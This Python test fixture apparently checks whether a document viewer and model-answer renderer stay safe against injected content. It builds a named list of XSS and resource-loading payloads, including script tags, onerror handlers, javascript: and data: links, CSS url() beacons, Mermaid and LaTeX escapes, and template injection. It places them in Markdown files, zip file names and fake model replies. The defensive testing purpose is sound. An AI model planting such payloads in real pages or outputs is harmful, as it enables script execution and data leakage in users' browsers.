"""Texts that try to run something on the page or to make it load something: one per trick, each with a name; and
documents and answers of a model that are full of them."""

from __future__ import annotations

import json
import re
import zipfile
from pathlib import Path
from typing import Any, NamedTuple

from benchmarks.model_server import Reply, wanted_form
from benchmarks.script import reply

RUN = "window.__pwned=(window.__pwned||[]).concat('{id}')"  # what a script does if it runs
OUT = "{out}/{id}"  # what a request goes to if one is made
SHORT = "<img src=x onerror=__pwned=1>"  # where longer ones are not shown
REFUSED = "judge nothing"  # a question that the model fails to judge the answer of
_QUOTED = RUN.replace("'", "&#39;")


class Payload(NamedTuple):
    id: str
    kind: str
    text: str


_SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload=\"{run}\"><image href='{to}'/></svg>"
_TEXTS: dict[str, list[str]] = {
    "script": [
        "<script>{run}</script>",
        "<script src={to}></script>",
        "</script><script>{run}</script>",
        "<scr<script>ipt>{run}</scr</script>ipt>",
        "<SCRIPT/x>{run}//",
        "<script type=module>import '{to}'</script>",
        "</pre></code><script>{run}</script>",
        "</textarea></title><script>{run}</script>",
    ],
    "handler": [
        "<img src=x onerror=\"{run}\">",
        "<img/src=`x`onerror=\"{run}\">",
        "<body onload=\"{run}\">",
        "<details open ontoggle=\"{run}\"><summary>x</summary></details>",
        "<input autofocus onfocus=\"{run}\">",
        "<video><source onerror=\"{run}\"></video>",
        "<b style=\"animation:spin 1s\" onanimationstart=\"{run}\">x</b>",
        "\"><img src=x onerror=\"{run}\"><x y=\"",
    ],
    "svg": [
        "<svg onload=\"{run}\"></svg>",
        "<svg><script>{run}</script></svg>",
        "<svg><image href=\"{to}\" width=9 height=9></svg>",
        "<svg><use href=\"{to}#x\"></use></svg>",
        "<svg><a xlink:href=\"javascript:{run}\"><text y=9>x</text></a></svg>",
        "<svg><animate onbegin=\"{run}\" attributeName=x dur=1s></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=\"{run}\">",
        "<svg><foreignObject><iframe src=\"{to}\"></iframe></foreignObject></svg>",
    ],
    "data": [
        "<iframe src=\"data:text/html,<script>fetch('{to}')</script>\"></iframe>",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
        "<a href=\"data:text/html,<script>{run}</script>\">x</a>",
        "[x](data:text/html,<script>{run}</script>)",
        "![x](data:image/svg+xml," + _SVG.replace(" ", "%20") + ")",
        "<embed src=\"data:image/svg+xml," + _SVG.replace('"', "&quot;") + "\">",
    ],
    "javascript": [
        "<a href=\"javascript:{run}\">x</a>",
        "[x](javascript:{run})",
        "[x](  java\tscript:{run})",
        "[x](JaVaScRiPt&colon;{run})",
        "<javascript:{run}>",
        "<iframe src=\"javascript:{run}\"></iframe>",
        "[x]: javascript:{run}\n\n[x]",
        "[x](vbscript:{run})",
    ],
    "image": [
        "<img src=\"{to}\">",
        "<img srcset=\"{to} 1x\">",
        "<picture><source srcset=\"{to}\"><img src=x></picture>",
        "<video poster=\"{to}\" src=\"{to}\" autoplay></video>",
        "<audio src=\"{to}\" autoplay></audio>",
        "![x]({to})",
        "![x](<{to}> 'title')",
        "![x][y]\n\n[y]: {to}",
        "[![x]({to})](https://example.com)",
        "![x](/gradio_api/file={to})",
        "<input type=image src=\"{to}\">",
        "<table background=\"{to}\"><tr><td background=\"{to}\">x</table>",
    ],
    "css": [
        "<style>body{{background:url({to})}}</style>",
        "<style>@import '{to}';</style>",
        "<div style=\"background-image:url({to})\">x</div>",
        "<div style=\"width:1px;list-style:url('{to}');display:list-item\">x</div>",
        "<link rel=stylesheet href=\"{to}\">",
        "<style>@font-face{{font-family:f;src:url({to})}}*{{font-family:f}}</style>",
    ],
    "form": [
        "<form action=\"{to}\"><input name=a value=b><button autofocus>x</button></form>",
        "<button formaction=\"{to}\">x</button>",
        "<form id=f action=\"{to}\"></form><input form=f type=submit>",
    ],
    "meta": [
        "<meta http-equiv=refresh content=\"0;url={to}\">",
        "<base href=\"{to}/\">",
        "<link rel=prefetch href=\"{to}\"><link rel=dns-prefetch href=\"{to}\"><link rel=preconnect href=\"{to}\">",
        "<iframe src=\"{to}\"></iframe>",
        "<object data=\"{to}\"></object><embed src=\"{to}\">",
        "<a href=\"https://example.com\" ping=\"{to}\">x</a>",
    ],
    "markdown": [
        "`<img src=x onerror=\"{run}\">` ``` <script>{run}</script>",
        "```\n```\n<img src=\"{to}\" onerror=\"{run}\">",
        "<!-- --!><img src=x onerror=\"{run}\"> -->",
        "x\\\n<img src=\"{to}\">\n\n| a |\n|---|\n| <img src=\"{to}\"> |",
        "<div markdown=1>\n\n![x]({to})\n\n</div>",
        "&lt;img src=\"{to}\" onerror=\"{run}\"&gt;",
        "\\<img src=\"{to}\" onerror=\"{run}\"\\>",
        "![x](\n{to}\n)",
        "> - 1. <img src=\"{to}\">",
        "[^1]: ![x]({to})\n\nx[^1]",
    ],
    "latex": [
        "$$\\href{{javascript:{run}}}{{x}}$$",
        "$$\\includegraphics{{{to}}}$$",
        "$$\\htmlData{{x=1}}{{y}} \\url{{javascript:{run}}}$$",
        "$$</span><img src=x onerror=\"{run}\">$$",
        "$$ ` $$ <img src=\"{to}\"> `",
        "\\( ` \\) <img src=\"{to}\" onerror=\"{run}\"> `",
        "$$\n```\n$$\n<img src=\"{to}\">\n```",
        "$$\n\n    $$ <img src=\"{to}\">",
        "\\(\\unicode{{<img src={to}>}}\\) \\[\\style{{background:url({to})}}{{x}}\\]",
    ],
    "mermaid": [
        "> ```mermaid\n> graph TD; A[\"<img src='{to}' onerror='{quoted}'>\"]-->B\n> ```",
        "```mermaid\ngraph TD; A[\"<img src='{to}' onerror='{quoted}'>\"]-->B\n```",
        "```mermaid\n%%{{init: {{'securityLevel': 'loose'}}}}%%\n"
        "graph TD; A-->B; click A href \"javascript:{quoted}\"\n```",
        "```mermaid\n%%{{init: {{'themeCSS': 'x{{}} *{{background:url({to})}}'}}}}%%\ngraph TD; A-->B\n```",
    ],
    "template": [
        "${{{run}}}",
        "{{{{constructor.constructor('{quoted}')()}}}}",
        "`${{fetch('{to}')}}`",
        "{{@html \"<img src='{to}'>\"}}",
    ],
}  # fmt: skip


def payloads(out: str) -> list[Payload]:
    """`out` is the address that nothing may ever be asked of."""
    found = []
    for kind, texts in _TEXTS.items():
        for number, text in enumerate(texts, 1):
            name = f"{kind}-{number:02}"
            run, quoted, to = (part.format(id=name, out=out) for part in (RUN, _QUOTED, OUT))
            found.append(Payload(name, kind, text.format(run=run, quoted=quoted, to=to)))
    return found


def as_name(payload: Payload, longest: int = 180) -> str | None:
    """The text as the name of a file, where one can be called so: a browser reads "\\" in an address as "/"."""
    name = " ".join(payload.text.split()).replace("/", "\\")
    return f"{name}.md" if len(name.encode()) <= longest else None


def as_line(payload: Payload) -> str:
    """The text where only one line can stand: in a heading, a title."""
    return re.sub(r"\s+", " ", payload.text)


# --- where they stand ---------------------------------------------------------------------------------------------

# A fence that one of them leaves open would make text of all that come after it: those are in the last answer, last.
ANSWERS = (
    ("script", "handler", "svg"),
    ("data", "javascript", "form", "meta"),
    ("image", "css"),
    ("template", "latex", "mermaid", "markdown"),
)


# Of each document no more than the viewer shows at once.
DOCUMENTS = (
    ("script", "handler", "svg", "data"),
    ("javascript", "form", "meta", "image", "css"),
    ("template", "latex", "mermaid", "markdown"),
)


def documents(folder: Path, texts: list[Payload]) -> list[Path]:
    """Documents of a few kinds, with each text as a heading, in a paragraph and in a code block; a table."""
    folder.mkdir()
    assert {kind for kinds in DOCUMENTS for kind in kinds} == {one.kind for one in texts}
    for kinds in DOCUMENTS:
        sections = [_section(kind, [one for one in texts if one.kind == kind]) for kind in kinds]
        (folder / f"{'-'.join(kinds)}.md").write_text("\n\n".join(sections), encoding="utf-8")
    rows = "\n".join(f'{one.id},"{as_line(one).replace(chr(34), chr(34) * 2)}"' for one in texts)
    (folder / "cells.csv").write_text(f"pump,words\n{rows}\n", encoding="utf-8")
    return sorted(folder.iterdir())


def _section(kind: str, texts: list[Payload]) -> str:
    parts = [
        f"## {as_line(one)}\n\nThe {kind} pump {one.id} warms for {number} minutes. {one.text}\n\n    {one.text}"
        for number, one in enumerate(texts, 1)
    ]
    return "\n\n".join([f"# The {kind} pumps", *parts])


def named(archive: Path, texts: list[Payload]) -> int:
    """Documents whose names, the folders that they are in, and short headings are such texts."""
    names = [name for one in texts if (name := as_name(one))]
    with zipfile.ZipFile(archive, "w") as packed:
        for number, name in enumerate(names):
            packed.writestr(name, f"# Valve\n\n## {SHORT}\n\nThe valve {number} closes in {number} seconds.")
    return len(names)


def says(texts: list[Payload]) -> Any:
    """A model that answers with what the question names; its reasons, findings and errors are such texts, too."""
    by_kind = {kind: [one.text for one in texts if one.kind == kind] for kind in dict.fromkeys(o.kind for o in texts)}
    word = as_line(next(one for one in texts if one.id == "image-01"))

    def hostile(form: Any) -> Any:
        if isinstance(form, dict):
            told = {key: hostile(value) for key, value in form.items()}
            return {
                key: f"{value} {word}" if isinstance(value, str) and ("reason" in key or key == "lacking") else value
                for key, value in told.items()
            }
        return [hostile(one) for one in form] if isinstance(form, list) else form

    def script(request: dict[str, Any]) -> Reply:
        if not request.get("stream"):
            if wanted_form(request) == "Judgement" and REFUSED in json.dumps(request["messages"]):
                return Reply(word, status=400)
            said = reply(request)
            text = said.arguments or said.text
            made = json.dumps(hostile(json.loads(text))) if text.startswith("{") else text
            return Reply(arguments=made) if said.arguments else Reply(made)
        asked = str(request["messages"][-1]["content"]).rpartition("Answer about:")[2]
        kinds = [kind for kind in by_kind if re.search(rf"\b{kind}\b", asked)]
        parts = [text for kinds_of in ANSWERS for kind in kinds_of if kind in kinds for text in by_kind[kind]]
        return Reply("The pump warms for 1 minutes [1].\n\n" + "\n\n".join(parts), piece=200)

    return script
